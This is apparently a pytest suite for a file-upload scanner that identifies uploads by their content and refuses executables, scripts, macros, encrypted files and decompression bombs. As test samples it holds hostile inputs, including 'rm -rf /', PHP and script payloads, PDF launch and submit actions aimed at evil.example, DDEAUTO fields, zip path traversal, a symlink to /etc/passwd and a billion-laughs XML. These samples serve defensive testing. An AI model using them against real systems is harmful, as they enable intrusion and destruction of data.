"""What a file is, by its content; what is refused, with which code and which way out (DOMAIN §4)."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from backoffice.domain.errors import Refused
from backoffice.domain.files import MAX_FILE_BYTES, FileKind, clean_name
from backoffice.storage import archives, look, media, sniff
from backoffice.storage.look import Inspected
from tests.support import samples
from tests.support.samples import ELF, EXE, GOOD

Inspect = Callable[[bytes, str], Inspected]


@pytest.fixture
def inspect(tmp_path: Path) -> Inspect:
    """The content lies under a key that says nothing, as in the store."""

    def call(content: bytes, name: str) -> Inspected:
        path = tmp_path / "0123456789abcdef"
        path.write_bytes(content)
        return sniff.examine(path, name=name)

    return call


def code(inspect: Inspect, content: bytes, name: str) -> str:
    with pytest.raises(Refused) as refused:
        inspect(content, name)
    assert refused.value.field == "files"
    assert refused.value.message % refused.value.values  # every place in the sentence is filled
    return refused.value.code


def words(inspect: Inspect, content: bytes, name: str) -> str:
    with pytest.raises(Refused) as refused:
        inspect(content, name)
    return refused.value.message % refused.value.values


@pytest.mark.parametrize("name", GOOD)
def test_good_file_of_each_kind_is_taken(inspect: Inspect, name: str) -> None:
    found = inspect(GOOD[name], name)
    assert (found.name, name.endswith((found.extension, ".jpeg"))) == (name, True)


@pytest.mark.parametrize("name", [name for name in GOOD if not name.endswith((".csv", ".jpeg"))])
def test_name_without_ending_gets_the_one_of_its_content(inspect: Inspect, name: str) -> None:
    found = inspect(GOOD[name], "Report v1.2")
    assert found.name == f"Report v1.2{found.extension}"
    assert name.endswith(found.extension)


@pytest.mark.slow
def test_every_content_under_every_other_name_is_refused(inspect: Inspect) -> None:
    contents = {name: content for name, content in GOOD.items() if name != "photo.jpeg"}
    for source, content in contents.items():
        for target in contents:
            if source == target or {source[-4:], target[-4:]} == {".txt", ".csv"}:
                continue
            refused = code(inspect, content, target)
            assert refused == "file-mismatch", (source, target, refused)


# --- the cases from public reports, by their number -----------------------------------------------------------


def test_case_1_workbook_whose_list_of_types_comes_last_is_a_workbook(inspect: Inspect) -> None:
    sheets = {f"xl/worksheets/sheet{n}.xml": os.urandom(45_000).hex() for n in range(5)}
    content = samples.ooxml("xlsx", sheets, types_last=True)
    assert content.index(b"[Content_Types].xml") > 200_000
    assert inspect(content, "table.xlsx").kind is FileKind.XLSX


def test_case_1_workbook_of_openpyxl_is_a_workbook(inspect: Inspect) -> None:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["a", 1])
    book.save(out)
    assert inspect(out.getvalue(), "table.xlsx").kind is FileKind.XLSX


@pytest.mark.parametrize("spelt", [b"<?=", b"<script>alert(1)</script>", b"<?php system(1);"])
def test_case_2_picture_whose_bytes_spell_code_by_chance_is_taken(inspect: Inspect, spelt: bytes) -> None:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    pixels = zlib.compress(b"\0" + spelt.ljust(99, b" "), 0)  # stored, not squeezed: the bytes stand as they are
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 33, 1, 8, 2, 0, 0, 0))
    png += chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    assert spelt in png
    assert inspect(png, "logo.png").kind is FileKind.PNG


@pytest.mark.parametrize("start", [b"%PDF-1.4 Sharp Scanned", b"\xef\xbb\xbf%PDF-1.4", b"\r\n%PDF-1.7"])
def test_case_3_pdf_with_more_text_in_its_first_line_is_taken(inspect: Inspect, start: bytes) -> None:
    content = samples.pdf()
    first_line = content.index(b"\n")
    found = inspect(start + content[first_line:], "scan.pdf")
    assert (found.kind, found.pages) == (FileKind.PDF, 1)


def attach(**files: bytes) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for name, content in files.items():
            file = name.replace("_", ".")
            pdf.attachments[file] = pikepdf.AttachedFileSpec(pdf, content, filename=file)

    return change


def test_case_4_pdf_with_two_attached_tables_is_taken(inspect: Inspect) -> None:
    content = samples.pdf(attach(one_csv=b"a,b\n1,2\n", two_csv=b"c;d\n3;4\n"))
    assert inspect(content, "report.pdf").kind is FileKind.PDF


@pytest.mark.parametrize("name", ["setup_exe", "data_csv", "macro_docm", "run_js"])
def test_case_4_pdf_with_an_attached_program_is_refused_and_names_it(inspect: Inspect, name: str) -> None:
    content = samples.pdf(attach(good_csv=b"a,b\n", **{name: EXE}))
    assert code(inspect, content, "report.pdf") == "file-executable"
    assert name.replace("_", ".") in words(inspect, content, "report.pdf")


def test_case_5_mp3_without_any_tag_is_taken(inspect: Inspect) -> None:
    assert samples.mp3()[:2] == b"\xff\xfb"
    assert inspect(samples.mp3(), "sound.mp3").kind is FileKind.MP3
    assert inspect(b"\xff\xfb\x90\x64" + bytes(2000), "sound.mp3").kind is FileKind.MP3


def test_case_6_zip_of_a_folder_and_a_document_is_an_archive(inspect: Inspect) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("folder/", b"")
        archive.writestr("folder/text.odt", samples.odf("odt"))
    found = inspect(out.getvalue(), "results.zip")
    assert (found.kind, found.entries) == (FileKind.ZIP, 1)
    assert code(inspect, out.getvalue(), "results.odt") == "file-mismatch"


def test_case_7_name_of_120_cyrillic_letters_stays_whole(inspect: Inspect) -> None:
    name = "Ж" * 120 + ".pdf"
    assert inspect(GOOD["report.pdf"], name).name == name


def test_case_8_csv_is_judged_without_asking_the_browser(inspect: Inspect) -> None:
    # There is no place to say a media type at all; the same content has the same outcome under any of these names.
    outcomes = {inspect(GOOD["table.csv"], name).media_type for name in ("table.csv", "TABLE.CSV", "x.y.csv")}
    assert outcomes == {"text/csv"}


@pytest.mark.slow
def test_case_9_honest_statistics_that_unpack_eightfold_are_taken(inspect: Inspect) -> None:
    # The same proportions at a tenth: 6 MB that unpack to 48 MB. The scanner's own limit is another matter.
    lines = b"".join(b"%d;2026-11-25;Riga;0;0;0;0;0;0;0\r\n" % (n * 7919 % 99991) for n in range(1_300_000))
    content = samples.zipped({"statistics.csv": lines})
    assert 5 * len(content) < len(lines)
    assert inspect(content, "statistics.zip").entries == 1


def test_case_10_film_of_a_phone_is_refused_and_names_what_is_taken(inspect: Inspect) -> None:
    content = samples.mp4(b"qt  ", b"qt  ")
    for name in ("IMG_0001.mov", "IMG_0001.MOV", "film.mp4", "film"):
        assert code(inspect, content, name) == "file-type"
        assert "MP4" in words(inspect, content, name)


def test_case_11_names_composed_and_decomposed_are_one_name() -> None:
    assert clean_name("g\u0327imene.pdf") == clean_name("ģimene.pdf")


# --- content that is not what the name says --------------------------------------------------------------------


@pytest.mark.parametrize("name", ["report.pdf", "photo.jpg", "text.docx", "table.csv", "notes.txt", "all.zip", "x"])
@pytest.mark.parametrize("content", [EXE, ELF, b"#!/bin/sh\nrm -rf /\n", b"<?php echo 1;"])
def test_program_under_any_name_is_refused(inspect: Inspect, name: str, content: bytes) -> None:
    assert code(inspect, content, name) == "file-executable"


@pytest.mark.parametrize("name", ["logo.svg", "logo.png", "page.html", "page.txt", "table.csv", "report.pdf", "x"])
@pytest.mark.parametrize(
    "content",
    [samples.svg(), samples.svg(""), b"<!doctype html><script>alert(1)</script>", b"\xef\xbb\xbf <HTML><body>",
     b"<!-- x --><html>", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg xmlns="x">'],
)
def test_svg_and_html_under_any_name_are_refused(inspect: Inspect, name: str, content: bytes) -> None:
    assert code(inspect, content, name) == "file-script"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (os.urandom(3000), "report.pdf"),
        (os.urandom(3000), "table.csv"),
        (b"%PDF-1.7\n<html><script>alert(1)</script></html>", "report.pdf"),
        (b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "photo.png"),
        (b"\xff\xd8\xff\xe0<script>alert(1)</script>", "photo.jpg"),
        (b"\xff\xfb\x90\x00" + b"<script>alert(1)</script>" * 40, "sound.mp3"),
        (b"GIF89a<script>alert(1)</script>", "photo.gif"),
        (b"RIFF\0\0\0\0WEBP<script>alert(1)</script>", "photo.webp"),
        (b"RIFF\0\0\0\0WAVE<script>alert(1)</script>", "sound.wav"),
        (b"\0\0\0\x18ftypisom" + b"<script>alert(1)</script>", "film.mp4"),
        (b"PK\x03\x04<script>alert(1)</script>", "all.zip"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"<script>" * 200, "old.doc"),
        (b"just words", "report.pdf"),
        (b"\xff\xfe\0\xd8\0", "notes.txt"),
    ],
)
def test_false_start_or_noise_is_refused(inspect: Inspect, content: bytes, name: str) -> None:
    assert code(inspect, content, name) in {"file-mismatch", "file-damaged"}


@pytest.mark.parametrize("name", [name for name in GOOD if not name.endswith((".txt", ".csv", ".mp3", ".wav"))])
def test_file_cut_in_half_is_refused(inspect: Inspect, name: str) -> None:
    content = GOOD[name] if name[-4:] not in {".png", ".jpg", "jpeg", "webp", ".gif"} else samples.picture(
        {"g": "PNG", "p": "WEBP", "f": "GIF"}.get(name[-1], "JPEG"), (300, 300), mode="RGB"
    )
    assert code(inspect, content[: len(content) // 2], name) in {"file-damaged", "file-mismatch"}


def test_empty_file_is_refused(inspect: Inspect) -> None:
    for name in ("report.pdf", "notes.txt", "x"):
        assert code(inspect, b"", name) == "file-empty"


def test_file_of_101_mb_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "x"
    with path.open("wb") as file:
        file.truncate(MAX_FILE_BYTES + 1)
    with pytest.raises(Refused) as refused:
        sniff.examine(path, name="report.pdf")
    assert refused.value.code == "file-too-big"
    assert "100 MB" in refused.value.message % refused.value.values


@pytest.mark.parametrize(
    ("name", "expected", "way_out"),
    [
        ("setup.exe", "file-executable", "PDF"), ("page.html", "file-script", "PDF"),
        ("macro.docm", "file-macro", "PDF"),
        ("film.avi", "file-type", "MP4"), ("sound.m4a", "file-type", "MP3"), ("photo.heic", "file-type", "JPEG"),
        ("text.rtf", "file-type", "PDF"), ("all.rar", "file-type", "ZIP"), ("thing.xyz", "file-type", "PDF"),
        ("repor\u202efdp.exe", "file-executable", "PDF"), ("report.pdf.exe", "file-executable", "PDF"),
        ("report.pdf.", "", ""),
    ],
)
def test_name_that_is_not_taken_is_refused_with_the_way_out(
    inspect: Inspect, name: str, expected: str, way_out: str
) -> None:
    if not expected:
        assert inspect(GOOD["report.pdf"], name).name == "report.pdf"
        return
    assert code(inspect, GOOD["report.pdf"], name) == expected
    assert way_out in words(inspect, GOOD["report.pdf"], name)


@pytest.mark.parametrize(
    ("start", "way_out"),
    [(b"Rar!\x1a\x07\x01\x00", "ZIP"), (b"{\\rtf1 x}", "PDF"), (b"II*\0" + bytes(20), "JPEG"),
     (b"OggS" + bytes(20), "MP3"),
     (b"\x1a\x45\xdf\xa3" + bytes(20), "MP4"), (samples.box(b"ftyp", b"heic\0\0\0\0heicmif1"), "JPEG"),
     (samples.box(b"ftyp", b"M4A \0\0\0\0M4A "), "MP3")],
)
def test_known_format_that_is_not_taken_says_what_to_save_it_as(inspect: Inspect, start: bytes, way_out: str) -> None:
    for name in ("report.pdf", "thing"):
        assert code(inspect, start, name) == "file-type"
        assert way_out in words(inspect, start, name)


# --- PDF: scripts and what acts by itself ----------------------------------------------------------------------


def opening(make: Callable[[], Dictionary]) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = make()

    return change


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def names_tree(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", pdf.make_indirect(script())])))


def button(pdf: Pdf) -> None:
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, A=script()))])


def deep(pdf: Pdf) -> None:
    pdf.Root.X = Dictionary(A=Array([Dictionary(B=Dictionary(C=Array([script()])))]))


def launch(pdf: Pdf) -> None:
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, A=Dictionary(S=Name.Launch, F="cmd.exe"))])


def page_open(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI="https://evil.example"))


def chained(pdf: Pdf) -> None:
    target = Dictionary(S=Name.SubmitForm, F="https://evil.example")
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D="x", Next=Array([Dictionary(S=Name.Named, Next=target)]))


def form_script(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=Array(["template", pdf.make_stream(b"<template><script>x</script></template>")]))


@pytest.mark.parametrize(
    "change",
    [names_tree, button, deep, launch, page_open, chained, form_script, opening(script),
     opening(lambda: Dictionary(S=Name.URI, URI="https://evil.example")),
     opening(lambda: Dictionary(S=Name.Launch, F="x"))],
)
@pytest.mark.parametrize("mode", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_pdf_that_acts_is_refused_wherever_the_script_hides(
    inspect: Inspect, change: Callable[[Pdf], None], mode: pikepdf.ObjectStreamMode
) -> None:
    content = samples.pdf(change, object_stream_mode=mode)
    assert code(inspect, content, "report.pdf") == "file-script"
    assert "Save as PDF" in words(inspect, content, "report.pdf")


def test_pdf_script_spelt_with_escapes_is_refused(inspect: Inspect) -> None:
    content = samples.pdf(names_tree, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in content
    escaped = content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    assert code(inspect, escaped, "report.pdf") == "file-script"


def harmless(pdf: Pdf) -> None:
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = Array([page, Name.Fit])
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])))
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, A=Dictionary(S=Name.URI, URI="https://ok.example"))])
    pdf.docinfo[Name.Title] = "How /JavaScript and /JS work"


def test_pdf_with_links_and_a_first_page_is_taken(inspect: Inspect) -> None:
    assert inspect(samples.pdf(harmless), "report.pdf").kind is FileKind.PDF


def test_pdf_with_a_password_is_refused(inspect: Inspect) -> None:
    locked = samples.pdf(encryption=pikepdf.Encryption(owner="o", user="u"))
    assert code(inspect, locked, "report.pdf") == "file-encrypted"


def test_pdf_that_anyone_can_open_but_not_change_is_taken_and_looked_into(inspect: Inspect) -> None:
    lock = pikepdf.Encryption(owner="o", user="")
    assert inspect(samples.pdf(encryption=lock), "report.pdf").kind is FileKind.PDF
    assert code(inspect, samples.pdf(names_tree, encryption=lock), "report.pdf") == "file-script"


def test_pdf_of_too_many_objects_is_refused(inspect: Inspect, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("backoffice.storage.pdf.MAX_OBJECTS", 3)
    assert code(inspect, samples.pdf(attach(one_csv=b"a")), "report.pdf") == "file-bomb"


# --- Office and books: macros, controls, links that fetch, passwords -------------------------------------------

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
PACKAGE = samples.ole({"\x01Ole10Native": samples.package(b"setup.exe", EXE)})
HARMLESS_PACKAGE = samples.ole({"\x01Ole10Native": samples.package(b"table.csv", b"a;b")})


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (samples.ooxml("docx", type_=MACRO_TYPE), "a.docx", "file-macro"),
        (samples.ooxml("docx", {"word/vbaProject.bin": b"x"}), "a.docx", "file-macro"),
        (samples.ooxml("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), "a.xlsx", "file-macro"),
        (samples.ooxml("xlsx", {"xl/embeddings/b.xlsm": b"x"}), "a.xlsx", "file-macro"),
        (samples.ooxml("docx", {"word/embeddings/o.bin": samples.doc({"Macros/VBA/dir": b"x"})}), "a.docx",
         "file-macro"),
        (samples.ooxml("docx", {"word/activeX/activeX1.bin": b"x"}), "a.docx", "file-script"),
        (samples.ooxml("docx", {"word/_rels/settings.xml.rels": samples.relations(
            "attachedTemplate", "https://evil.example/t.dotm")}), "a.docx", "file-script"),
        (samples.ooxml("docx", {"word/_rels/document.xml.rels": samples.relations(
            "oleObject", "mhtml:https://evil.example/x!x")}), "a.docx", "file-script"),
        (samples.ooxml("docx", {"word/document.xml": b"<w:p><w:instrText>DD</w:instrText><w:instrText xml:space='x'>"
                                b"EAUTO c:\\\\cmd</w:instrText></w:p>"}), "a.docx", "file-script"),
        (samples.ooxml("xlsx", {"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}), "a.xlsx",
         "file-script"),
        (samples.ooxml("pptx", {"ppt/slides/slide1.xml": b'<a:hlinkClick action="ppaction://program"/>'}), "a.pptx",
         "file-script"),
        (samples.ooxml("docx", {"word/embeddings/oleObject1.bin": PACKAGE}), "a.docx", "file-executable"),
        (samples.ooxml("docx", {"word/media/image1.png": EXE}), "a.docx", "file-executable"),
        (samples.ooxml("docx", {"word/media/tool.exe": b"x"}), "a.docx", "file-executable"),
        (samples.ooxml("pptx", type_="application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"),
         "a.pptx", "file-type"),
        (samples.odf("odt", {"Basic/Standard/Module1.xml": b"x"}), "a.odt", "file-macro"),
        (samples.odf("ods", {"Scripts/python/x.py": b"x"}), "a.ods", "file-macro"),
        (samples.odf("odt", {"content.xml": b'<script:event-listener xlink:href="vnd.sun.star.script:x"/>'}), "a.odt",
         "file-macro"),
        (samples.odf("ods", {"content.xml": b'<office:dde-source office:dde-application="cmd"/>'}), "a.ods",
         "file-script"),
        (samples.odf("odt", {"Object 1": PACKAGE}), "a.odt", "file-executable"),
        (samples.odf("odt", kind="text-template"), "a.odt", "file-type"),
        (samples.odf("odt", {"META-INF/manifest.xml": b'<m:manifest xmlns:m="m"><m:file-entry><m:encryption-data/>'
                             b"</m:file-entry></m:manifest>"}), "a.odt", "file-encrypted"),
        (samples.epub({"text/two.xhtml": b"<html><SCRIPT>1</SCRIPT></html>"}), "a.epub", "file-script"),
        (samples.epub({"js/reader.js": b"x"}), "a.epub", "file-script"),
        (samples.epub({"META-INF/encryption.xml": b'<e xmlns="e"><EncryptionMethod Algorithm="aes"/></e>'}), "a.epub",
         "file-encrypted"),
        (samples.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "a.docx", "file-encrypted"),
        (samples.doc({"Macros/VBA/dir": b"x"}), "a.doc", "file-macro"),
        (samples.xls(more={"_VBA_PROJECT_CUR/VBA/dir": b"x"}), "a.xls", "file-macro"),
        (samples.xls((0x85, bytes(5) + b"\1\1A")), "a.xls", "file-macro"),
        (samples.xls((0x2F, bytes(6))), "a.xls", "file-encrypted"),
        (samples.doc(flags=0x0100), "a.doc", "file-encrypted"),
        (samples.ppt(token=0xF3D1C4DF), "a.ppt", "file-encrypted"),
        (samples.ppt(samples.record(0x3E8, samples.record(0x7D0, samples.record(0x3FF, samples.record(
            0x400, struct.pack("<III", 7, 1, 2), is_container=False))))), "a.ppt", "file-macro"),
        (samples.doc({"ObjectPool/_1/\x01Ole10Native": b"x"}), "a.doc", ""),
        (samples.doc({"ObjectPool/\x01Ole10Native": samples.package(b"setup.exe", EXE)}), "a.doc", "file-executable"),
        (samples.ole({"__properties_version1.0": b"x"}), "a.doc", "file-mismatch"),
    ],
)
def test_document_that_could_act_or_is_locked_is_refused(
    inspect: Inspect, content: bytes, name: str, expected: str
) -> None:
    if expected:
        assert code(inspect, content, name) == expected
    else:
        assert inspect(content, name)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (samples.ooxml("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": samples.ooxml("xlsx")}), "a.pptx"),
        (samples.ooxml("docx", {"word/embeddings/oleObject1.bin": HARMLESS_PACKAGE}), "a.docx"),
        (samples.ooxml("docx", {"word/_rels/document.xml.rels": samples.relations(
            "hyperlink", "https://ok.example")}), "a.docx"),
        (samples.ooxml("docx", {"word/_rels/settings.xml.rels": samples.relations(
            "attachedTemplate", "file:///C:\\Users\\anna\\Templates\\agency.dotx")}), "a.docx"),
        (samples.ooxml("docx", {"word/document.xml": b"<w:t>DDE and DDEAUTO are old</w:t>"
                                b"<w:instrText> PAGE </w:instrText>"}), "a.docx"),
        (samples.ooxml("xlsx", {"xl/printerSettings/printerSettings1.bin": b"x"}), "a.xlsx"),
        (samples.odf("odt", {"Basic/script-lc.xml": b"x", "Basic/Standard/script-lb.xml": b"x"}), "a.odt"),
        (samples.epub({"META-INF/encryption.xml": b'<e xmlns="e"><EncryptionMethod '
                       b'Algorithm="http://www.idpf.org/2008/embedding"/></e>'}), "a.epub"),
    ],
)
def test_document_with_ordinary_parts_is_taken(inspect: Inspect, content: bytes, name: str) -> None:
    assert inspect(content, name).name == name


# --- archives: what is in them, and bombs ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ({"a.pdf": GOOD["report.pdf"], "setup.exe": EXE}, "file-executable"),
        ({"a.pdf": EXE}, "file-executable"),
        ({"a/b/index.html": b"<html>"}, "file-script"),
        ({"a.docx": samples.ooxml("docx", {"word/vbaProject.bin": b"x"})}, "file-macro"),
        ({"a.pdf": GOOD["photo.jpg"]}, "file-mismatch"),
        ({"data.json": b"{}"}, "file-type"),
        ({"../../etc/cron.d/x.txt": b"x"}, "file-archive"),
        ({"/etc/x.txt": b"x"}, "file-archive"),
        ({"..\\x.txt": b"x"}, "file-archive"),
        ({"C:/x.txt": b"x"}, "file-archive"),
    ],
)
def test_zip_is_judged_by_what_is_in_it(inspect: Inspect, parts: dict[str, bytes], expected: str) -> None:
    assert code(inspect, samples.zipped(parts), "all.zip") == expected


def test_zip_refusal_names_the_file_in_it(inspect: Inspect) -> None:
    assert "all.zip › setup.exe" in words(inspect, samples.zipped({"x/setup.exe": EXE}), "all.zip")


def test_zip_with_what_systems_add_is_taken(inspect: Inspect) -> None:
    content = samples.zipped({
        "__MACOSX/._a.txt": b"\0\5\x16\7", ".DS_Store": b"\0\0\0\1", "x/Thumbs.db": b"x", "a.txt": b"x",
        "empty.txt": b"",
    })
    assert inspect(content, "all.zip").entries == 2


def test_zip_with_a_password_is_refused(inspect: Inspect) -> None:
    content = bytearray(samples.zipped({"a.txt": b"x"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert code(inspect, bytes(content), "all.zip") == "file-encrypted"


def test_zip_with_a_link_in_it_is_refused(inspect: Inspect) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert code(inspect, out.getvalue(), "all.zip") == "file-archive"


def test_zip_bomb_is_refused_before_it_unpacks(inspect: Inspect, monkeypatch: pytest.MonkeyPatch) -> None:
    content = samples.zipped({"a.txt": bytes(40_000_000)})
    assert len(content) < 50_000
    monkeypatch.setattr(archives, "_pieces", lambda *_: pytest.fail("unpacked"))
    assert code(inspect, content, "all.zip") == "file-bomb"
    assert code(inspect, samples.ooxml("docx", {"word/x.xml": bytes(40_000_000)}), "a.docx") == "file-bomb"


def test_zip_that_unpacks_beyond_the_limit_is_refused_however_it_is_spread(tmp_path: Path) -> None:
    def small(content: bytes, name: str) -> Inspected:
        path = tmp_path / "x"
        path.write_bytes(content)
        return sniff.examine(path, name=name, budget=look.Budget(unpacked=5000))

    noise = os.urandom(3000).hex().encode()
    inner = samples.zipped({"a.txt": noise[:2000]})
    assert small(inner, "all.zip").entries == 1
    assert code(small, samples.zipped({"a.txt": noise}), "all.zip") == "file-bomb"
    assert code(small, samples.zipped({f"{n}.zip": inner for n in range(3)}), "all.zip") == "file-bomb"


def test_zip_whose_directory_lies_about_sizes_is_refused(inspect: Inspect) -> None:
    content = bytearray(samples.zipped({"a.txt": b"x" * 1_000_000}))
    directory = content.index(b"PK\x01\x02")
    struct.pack_into("<I", content, directory + 24, 10)
    struct.pack_into("<I", content, directory + 16, zlib.crc32(b"x" * 10))
    assert code(inspect, bytes(content), "all.zip") in {"file-bomb", "file-damaged"}


def test_zip_whose_entries_share_the_same_bytes_is_refused(inspect: Inspect) -> None:
    content = samples.zipped({"a.txt": os.urandom(3000).hex()})
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[start:end]
    copies = b"".join(entry.replace(b"a.txt", b"%d.txt" % n) for n in range(5))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 5, 5, len(copies), start, 0)
    assert code(inspect, content[:start] + copies + tail, "all.zip") == "file-bomb"


def test_zip_of_too_many_files_is_refused(inspect: Inspect) -> None:
    content = samples.zipped({f"{n}.txt": b"" for n in range(look.MAX_ENTRIES + 1)})
    assert code(inspect, content, "all.zip") == "file-bomb"


def test_zip_of_zips_is_taken_but_no_deeper(inspect: Inspect) -> None:
    two = samples.zipped({"b.zip": samples.zipped({"a.txt": b"x"})})
    assert inspect(two, "all.zip").entries == 1
    assert code(inspect, samples.zipped({"c.zip": two}), "all.zip") == "file-bomb"


def test_xml_that_multiplies_itself_is_refused(inspect: Inspect) -> None:
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    assert code(inspect, samples.ooxml("docx", {"_rels/.rels": laughs}), "a.docx") == "file-bomb"


# --- pictures, sound, text -------------------------------------------------------------------------------------


def png_of(width: int, height: int, size: int = 400) -> bytes:
    """A PNG whose header promises so many pixels."""
    small = bytearray(samples.picture("PNG"))
    struct.pack_into(">II", small, 16, width, height)
    struct.pack_into(">I", small, 29, zlib.crc32(small[12:29]))
    return bytes(small) + bytes(size)


@pytest.mark.parametrize("size", [(12_000, 12_000), (30_000, 30_000), (100_000, 100_000), (400_000_000, 1)])
def test_picture_bomb_is_refused_before_it_is_decoded(
    inspect: Inspect, monkeypatch: pytest.MonkeyPatch, size: tuple[int, int]
) -> None:
    monkeypatch.setattr(media, "_check_whole", lambda *_: pytest.fail("decoded"))
    assert code(inspect, png_of(*size), "photo.png") == "file-bomb"


def test_large_honest_photo_is_taken(inspect: Inspect) -> None:
    assert inspect(samples.picture("JPEG", (4000, 3000)), "photo.jpg").kind is FileKind.JPEG


@pytest.mark.parametrize(
    "content",
    ["Rīga".encode(), "Rīga".encode("utf-16"), b"\xfe\xff" + "Rīga".encode("utf-16-be"), "Rīga".encode("cp1257"),
     "\ufeffRīga".encode(), b"x" * (1 << 20) + "ģ".encode() * 10, b"BMW and MZ", b"ID3 tags explained", b"PK files"],
)
def test_text_in_any_usual_encoding_is_taken(inspect: Inspect, content: bytes) -> None:
    assert inspect(content, "notes.txt").media_type == "text/plain"
    assert inspect(content, "notes.csv").media_type == "text/csv"


@pytest.mark.parametrize("content", [b"a\0b", b"a\x1b[31m", b"\xfe\xff\0a\0\0", b"\xef\xbb\xbfa\0"])
def test_text_with_control_characters_is_refused(inspect: Inspect, content: bytes) -> None:
    assert code(inspect, content, "notes.txt") == "file-mismatch"


def test_nothing_unpacked_stays_behind(inspect: Inspect, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(folder))
    inspect(samples.zipped({"a.pdf": GOOD["report.pdf"], "b.zip": GOOD["all.zip"]}), "all.zip")
    code(inspect, samples.zipped({"a.pdf": EXE}), "all.zip")
    assert list(folder.iterdir()) == []
